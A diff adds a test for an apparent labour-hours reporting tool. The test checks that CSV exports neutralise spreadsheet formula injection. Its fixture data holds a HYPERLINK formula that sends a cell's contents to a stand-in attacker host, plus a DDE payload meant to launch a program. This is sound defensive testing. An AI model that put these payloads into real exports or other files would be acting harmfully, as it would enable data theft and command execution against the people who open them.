@@ -194,3 +194,39 @@ def test_live_alerts_project_open_sessions_to_the_shift_end() -> None:
         ("prc_ot_day", "violation", True, 4.0), ("prc_ot_day_normal", "notice", True, 4.0)}
     # a past day has nothing to project
     assert live_alerts(facts, load_ruleset("prc_labour_law"), date(2026, 3, 6)) == []
+
+
+@pytest.mark.slow
+def test_report_csv_cells_never_run_as_formulas(make_db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """Issue #18 item 6, through the installed executable: a worker named like a formula is written
+    with a leading quote; the figures stay numbers."""
+    import dataclasses
+    import subprocess
+    import sys
+
+    from seamline.adapters.csv_cells import TRIGGERS
+
+    lay = make_layout()
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    lay.workers["W1"] = dataclasses.replace(lay.workers["W1"], name=evil)
+    lay.workers["W2"] = dataclasses.replace(lay.workers["W2"], name="+cmd|' /C calc'!A0")
+    url, engine = make_db(lay, month_of_work().events)
+    seal(engine, FACTORY, date(2026, 3, 3), now=datetime(2026, 3, 4, tzinfo=UTC))
+    rates = tmp_path / "rates.json"
+    rates.write_text(json.dumps(RATES))
+    exe = str(Path(sys.executable).parent / "seamline")
+    out = {}
+    for who in ("--customer", "ACME"), ("--worker", "W1"):
+        r = subprocess.run([exe, "hours-report", "--db", url, "--factory", FACTORY, "--month", "2026-03",
+                            "--rates", str(rates), "--format", "csv", *who], capture_output=True, text=True,
+                           timeout=120)
+        assert r.returncode == 0, r.stderr
+        out[who[0]] = list(csv.reader(io.StringIO(r.stdout)))
+        cells = [c for row in out[who[0]] for c in row]
+        assert any(evil in c for c in cells)
+        for c in cells:
+            if c.startswith(TRIGGERS) and c not in ("-", "+"):
+                float(c)  # only plain numbers may start with = + - @
+    by_worker = {row[0]: row for row in out["--customer"] if len(row) == 6}
+    assert by_worker["W1"][1] == "'" + evil and by_worker["W1"][2:] == ["15.14", "1.43", "160", "80.00"]
+    assert by_worker["W2"][1] == "'+cmd|' /C calc'!A0"
